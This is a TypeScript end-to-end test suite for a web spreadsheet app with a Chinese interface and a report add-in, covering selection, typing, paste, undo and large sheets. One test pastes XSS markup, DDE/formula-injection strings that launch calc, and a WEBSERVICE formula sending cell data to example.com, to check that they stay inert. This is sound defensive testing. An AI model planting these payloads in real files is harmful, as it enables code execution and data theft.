import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parseA1 } from "../../src/sheet/a1";
import type { CellRange } from "../../src/sheet/cell-range";
import { enterValues } from "../../src/workbook/enter-values";
import { saveWorkbook } from "../../src/workbook/xlsx/save-workbook";
import { Workbook } from "../../src/workbook/workbook";
import type { Session } from "./support/workbench-session";
import { Workbench } from "./support/workbench-session";

const folder = mkdtempSync(join(tmpdir(), "jxmb-sheet-"));

let workbench: Workbench;
let session: Session;
beforeAll(async () => {
  workbench = await Workbench.start();
});
afterAll(() => workbench.stop());

afterEach(() => {
  expect(session.complaints).toEqual([]);
  expect(session.strangers).toEqual([]);
});

/** One page for a group of tests, each on an empty sheet of its own. */
function onEmptySheets(): void {
  beforeAll(async () => {
    session = await workbench.open("?sample=none");
    await session.ready();
  });
  beforeEach(() => session.button("新工作表").click());
  afterAll(() => session.close());
}

describe("selecting", () => {
  onEmptySheets();

  test("by mouse: a cell, with Shift a range, by dragging a range, by a header its line", async () => {
    await session.cell("B2").click();
    expect(await session.selected()).toBe("B2");
    await session.cell("D4").click({ modifiers: ["Shift"] });
    expect(await session.selected()).toBe("B2:D4");

    await session.cell("C6").hover();
    await session.page.mouse.down();
    await session.cell("E9").hover();
    await session.page.mouse.up();
    expect(await session.selected()).toBe("C6:E9");

    await session.page.locator('[data-column="C"]').click();
    expect(await session.selected()).toBe("C1:C1048576");
    await session.page.locator('[data-row="3"]').click();
    expect(await session.selected()).toBe("A3:XFD3");
  });

  test("by keys: arrows, with Shift a range, with Control to the edge of what is filled, page and home keys", async () => {
    await session.goTo("B2");
    await session.type("1");
    await session.press("Enter");
    await session.type("2");
    await session.press("Enter", "Control+Home");
    expect(await session.selected()).toBe("A1");
    await session.press("ArrowRight", "Control+ArrowDown", "Control+ArrowDown");
    expect(await session.selected()).toBe("B3");
    await session.press("Shift+ArrowUp", "Shift+ArrowRight");
    expect(await session.selected()).toBe("B2:C3");
    await session.press("Home");
    expect(await session.selected()).toMatch(/^A\d$/);
    await session.press("Control+End");
    expect(await session.selected()).toBe("B3");
    await session.press("PageDown");
    const row = Number((await session.selected()).slice(1));
    expect(row).toBeGreaterThan(20);
    await session.press("PageUp", "Control+ArrowUp", "Control+ArrowUp");
    expect(await session.selected()).toBe("B1");
  });

  test("by the name box: a range, a far cell, and a sentence for what is no place", async () => {
    await session.goTo("C3:D7");
    expect(await session.selected()).toBe("C3:D7");
    await session.goTo("ZZZZ1");
    await session.says("没有「ZZZZ1」这个位置");
    await session.goTo("XFD1048576");
    await session.cell("XFD1048576").waitFor();
    expect(await session.selected()).toBe("XFD1048576");
  });

  test("shows count, average and sum of the numbers selected", async () => {
    await session.fillClipboard({ "text/plain": "95%\t12\t30" });
    await session.goTo("B3");
    await session.press("Control+v");
    expect(await session.page.locator("[data-figures] span").allTextContents()).toEqual([
      "平均值：14.31666667",
      "计数：3",
      "求和：42.95",
    ]);
  });
});

describe("typing", () => {
  onEmptySheets();

  test("replaces a cell; Enter goes down and after Tab back to where Tab began", async () => {
    await session.cell("B2").click();
    await session.type("培训人次");
    await session.press("Enter");
    expect(await session.selected()).toBe("B3");
    await session.type("95%");
    await session.press("Tab");
    await session.type("12");
    await session.press("Tab");
    await session.type("30");
    await session.press("Enter");
    expect(await session.selected()).toBe("B4");
    expect(await session.texts("B2", "B3", "C3", "D3")).toEqual(["培训人次", "95%", "12", "30"]);
  });

  test("arrows leave a cell typed over, and move in the text of one opened with F2 or by double click", async () => {
    await session.cell("A1").click();
    await session.type("人次");
    await session.press("ArrowRight");
    expect(await session.selected()).toBe("B1");
    await session.press("ArrowLeft", "F2", "ArrowLeft");
    await session.type("员");
    await session.press("Enter");
    expect(await session.texts("A1")).toEqual(["人员次"]);
    await session.cell("A1").dblclick();
    await session.press("End");
    await session.type("数");
    await session.cell("C4").click();
    expect(await session.texts("A1")).toEqual(["人员次数"]);
    expect(await session.selected()).toBe("C4");
  });

  test("Escape gives up, Alt+Enter breaks the line, Control+Enter fills what is selected", async () => {
    await session.cell("A1").click();
    await session.type("原");
    await session.press("Enter", "ArrowUp", "F2");
    await session.type("改");
    await session.press("Escape");
    expect(await session.texts("A1")).toEqual(["原"]);

    await session.goTo("A3");
    await session.type("第一行");
    await session.press("Alt+Enter");
    await session.type("第二行");
    await session.press("Enter", "ArrowUp");
    expect(await session.formula()).toBe("第一行\n第二行");

    await session.goTo("C3:D4");
    await session.type("同");
    await session.press("Control+Enter");
    expect(await session.texts("C3", "D3", "C4", "D4")).toEqual(["同", "同", "同", "同"]);
  });

  test("Delete empties what is selected", async () => {
    await session.fillClipboard({ "text/plain": "甲\t乙\r\n丙\t丁" });
    await session.press("Control+v", "Delete");
    expect(await session.texts("A1", "B1", "A2", "B2")).toEqual(["", "", "", ""]);
    await session.press("Control+z");
    expect(await session.texts("A1", "B1", "A2", "B2")).toEqual(["甲", "乙", "丙", "丁"]);
  });

  test("in the formula bar changes the cell selected", async () => {
    await session.goTo("B5");
    await session.page.getByLabel("编辑栏内容").click();
    await session.type("编辑栏输入");
    await session.press("Enter");
    expect(await session.texts("B5")).toEqual(["编辑栏输入"]);
    expect(await session.selected()).toBe("B6");
  });

  test("an input method composes in the cell from the first key on", async () => {
    await session.cell("C8").click();
    await session.compose(["p", "pei", "peixun"], "培训");
    expect(await session.page.locator(".cell-editor").inputValue()).toBe("培训");
    await session.press("Enter");
    expect(await session.texts("C8", "C9")).toEqual(["培训", ""]);
    expect(await session.selected()).toBe("C9");
  });

  test("going over to the add-in ends typing, so that it sees what was typed", async () => {
    await session.inPane("重新查找").waitFor();
    await session.cell("B5").click();
    await session.type("正在输入");
    await session.pane.locator("body").click();
    await session.cell("B5").getByText("正在输入").waitFor();
  });
});

describe("copying and pasting", () => {
  onEmptySheets();

  test("a block goes elsewhere with its formats and selects where it stands; cutting moves it", async () => {
    await session.fillClipboard({ "text/plain": "95%\t12\t30" });
    await session.goTo("B3");
    await session.press("Control+v", "Control+c");
    await session.goTo("F3");
    await session.press("Control+v");
    expect(await session.texts("F3", "G3", "H3")).toEqual(["95%", "12", "30"]);
    expect(await session.selected()).toBe("F3:H3");

    await session.goTo("B3");
    await session.press("Control+x");
    await session.goTo("B8");
    await session.press("Control+v");
    expect(await session.texts("B3", "B8", "C3")).toEqual(["", "95%", "12"]);
  });

  test("a block copied goes to other programs as tab-separated text", async () => {
    await session.fillClipboard({ "text/plain": '甲\t"上\n下"\r\n5\t95%' });
    await session.press("Control+v", "Control+c");
    const text = await session.page.evaluate(() => navigator.clipboard.readText());
    expect(text.replaceAll("\r\n", "\n")).toBe('甲\t"上\n下"\n5\t95%');
  });

  test("text of Excel keeps line breaks inside cells", async () => {
    await session.fillClipboard({ "text/plain": '甲\t"多行\n文字"\r\n乙\t1,234\r\n' });
    await session.goTo("B6");
    await session.press("Control+v");
    expect(await session.texts("B6", "B7", "C7", "B8")).toEqual(["甲", "乙", "1,234", ""]);
    await session.cell("C6").click();
    expect(await session.formula()).toBe("多行\n文字");
  });

  test("a table of Word keeps its paragraphs and merged cells their places", async () => {
    const html =
      "<table><tr><td rowspan=2><p>项目</p><p>名称</p></td><td>指标</td></tr><tr><td>值<br>二</td></tr></table>";
    await session.fillClipboard({ "text/html": html, "text/plain": "项目" });
    await session.goTo("B10");
    await session.press("Control+v");
    expect(await session.texts("C10", "B11")).toEqual(["指标", ""]);
    await session.cell("B10").click();
    expect(await session.formula()).toBe("项目\n名称");
    await session.cell("C11").click();
    expect(await session.formula()).toBe("值\n二");
  });

  test("hostile text stays text: markup is not drawn, a formula is neither run nor asked for its data", async () => {
    const texts = [
      "<img src=x onerror=window.harmed=1>",
      "+1+cmd|' /c calc'!A0",
      "@SUM(1)",
      "javascript:alert(1)",
      "'=cmd|'/c calc'!A0",
    ];
    await session.fillClipboard({ "text/plain": texts.join("\r\n") });
    await session.press("Control+v");
    expect(await session.texts("A1", "A2", "A3", "A4", "A5")).toEqual([...texts.slice(0, 4), "=cmd|'/c calc'!A0"]);

    await session.fillClipboard({ "text/plain": '=WEBSERVICE("http://example.com/"&A1)' });
    await session.goTo("C1");
    await session.press("Control+v");
    expect(await session.texts("C1")).toEqual(["#GETTING_DATA"]);
    expect(await session.formula()).toBe('=WEBSERVICE("http://example.com/"&A1)');
    await session.says("1 个公式");

    await session.fillClipboard({
      "text/html":
        "<table><tr><td><img src=x onerror=window.harmed=1>图<script>window.harmed=1</script></td></tr></table>",
    });
    await session.goTo("E1");
    await session.press("Control+v");
    await session.cell("E1").getByText("图").waitFor();
    expect(await session.page.locator(".cells img, .cells script").count()).toBe(0);
    expect(await session.page.evaluate(() => "harmed" in window)).toBe(false);
    // The browser says that the page's policy would have stopped the handler, had the markup been more than parsed.
    expect(session.complaints.splice(0).filter((said) => !said.includes("Content Security Policy"))).toEqual([]);
  });
});

describe("undo and redo", () => {
  onEmptySheets();

  test("take a person's steps back one by one and do them again, on the sheet where they were done", async () => {
    await session.goTo("C3");
    await session.type("甲");
    await session.press("Enter");
    await session.type("乙");
    await session.press("Enter", "Control+z");
    expect(await session.texts("C3", "C4")).toEqual(["甲", ""]);
    await session.press("Control+z", "Control+y", "Control+y");
    expect(await session.texts("C3", "C4")).toEqual(["甲", "乙"]);
    expect(await session.button("重做").isDisabled()).toBe(true);

    const here = await session.page.getByRole("tab", { selected: true }).innerText();
    await session.press("Control+PageUp");
    await session.page.getByRole("tab", { name: here, selected: false }).waitFor();
    await session.button("撤销").click();
    await session.page.getByRole("tab", { name: here, selected: true }).waitFor();
    expect(await session.selected()).toBe("C4");
    expect(await session.texts("C4")).toEqual([""]);
    // The keys are back in the sheet.
    await session.type("丙");
    await session.press("Enter");
    expect(await session.texts("C4")).toEqual(["丙"]);
  });

  test("a column's width", async () => {
    const header = session.page.locator('[data-column="B"]');
    const before = await header.boundingBox();
    if (!before) throw new Error("column B is not in sight");
    await session.page.mouse.move(before.x + before.width - 1, before.y + 10);
    await session.page.mouse.down();
    await session.page.mouse.move(before.x + before.width + 59, before.y + 10, { steps: 4 });
    await session.page.mouse.up();
    expect((await header.boundingBox())?.width).toBeCloseTo(before.width + 60, -1);
    await session.press("Control+z");
    expect((await header.boundingBox())?.width).toBe(before.width);
  });
});

describe("a filled-in sheet", () => {
  afterEach(() => session.close());

  test("merged cells are one cell: to click, to walk over, to type into", async () => {
    session = await workbench.open("");
    const workbook = new Workbook();
    enterValues(workbook.activeSheet, { row: 0, column: 0 }, [
      ["表名", null, null],
      ["项目", "指标一", "值"],
      [null, "指标二", "值"],
    ]);
    workbook.activeSheet.merge(placeOf("A1:C1"), placeOf("A2:A3"));
    await open(workbook, "merged.xlsx");
    await session.cell("A1").getByText("表名").waitFor();
    expect(await session.cell("B1").count()).toBe(0);
    await session.cell("A1").click({ position: { x: 150, y: 10 } });
    expect(await session.selected()).toBe("A1");
    await session.press("ArrowDown", "ArrowDown");
    expect(await session.selected()).toBe("A4");
    await session.press("ArrowUp", "ArrowRight");
    expect(await session.selected()).toMatch(/^B[23]$/);
    await session.goTo("A3");
    await session.type("项目甲");
    await session.press("Enter");
    expect(await session.texts("A2")).toEqual(["项目甲"]);
    const box = await session.cell("A2").boundingBox();
    const next = await session.cell("B2").boundingBox();
    expect(box?.height).toBeGreaterThan(1.8 * (next?.height ?? Infinity));
  });

  test("the report's heading stays in sight while its rows scroll", async () => {
    session = await workbench.open("?sample=2020-gulou-clean");
    await session.control("WriteReport").click();
    await session.page.getByRole("tab", { name: "绩效目标表(报送)", selected: true }).waitFor();
    const heading = session.page.locator(".cells td", { hasText: /^项目名称$/ });
    const before = await heading.boundingBox();
    await session.goTo("B90");
    await session.cell("E90").or(session.cell("F90")).first().waitFor();
    expect(await heading.boundingBox()).toEqual(before);
  });

  test("the add-in's report is a step of undo too, and comes again", async () => {
    session = await workbench.open("?sample=2020-gulou-clean");
    await session.inPane("生成报表").click();
    await session.inPane(/^写入 \d+ 张新表$/).click();
    const report = session.page.getByRole("tab", { name: "绩效目标表(报送)" });
    await report.waitFor();
    while (!(await session.button("撤销").isDisabled())) await session.button("撤销").click();
    await report.waitFor({ state: "detached" });
    expect(await session.tabs()).toEqual(["绩效目标表"]);
    while (!(await session.button("重做").isDisabled())) await session.button("重做").click();
    await report.waitFor();
    await report.click();
    await session.page.locator(".cells td").getByText("财政支出项目绩效目标表", { exact: true }).waitFor();
  });

  test("12,000 rows scroll to the end and back with a few cells in the document", async () => {
    session = await workbench.open("");
    const workbook = new Workbook();
    const rows = Array.from({ length: 12_000 }, (_, row) =>
      Array.from({ length: 12 }, (__, column) => `第${row + 1}行${column + 1}列`),
    );
    enterValues(workbook.activeSheet, { row: 0, column: 0 }, rows);
    const merges = Array.from({ length: 1_999 }, (_, index) => placeOf(`A${index * 6 + 2}:A${index * 6 + 7}`));
    workbook.activeSheet.merge(...merges);
    await open(workbook, "long.xlsx");
    await session.cell("B2").getByText("第2行2列").waitFor();
    await session.press("Control+End");
    await session.cell("L12000").getByText("第12000行12列").waitFor();
    await session.page.locator(".scroller").evaluate((scroller) => scroller.scrollTo(0, scroller.scrollHeight / 2));
    await session.page
      .locator(".cells td", { hasText: /^第6\d\d\d行2列$/ })
      .first()
      .waitFor();
    expect(await session.page.locator(".cells td").count()).toBeLessThan(1_500);
    await session.press("Control+Home");
    await session.cell("A1").getByText("第1行1列").waitFor();
  });
});

function placeOf(text: string): CellRange {
  const place = parseA1(text);
  if (!place) throw new Error(`${text} is no place`);
  return place.range;
}

async function open(workbook: Workbook, fileName: string): Promise<void> {
  const path = join(folder, fileName);
  writeFileSync(path, await saveWorkbook(workbook));
  await session.ready();
  await session.choose(path);
  await session.says(`已打开 ${fileName}`);
}
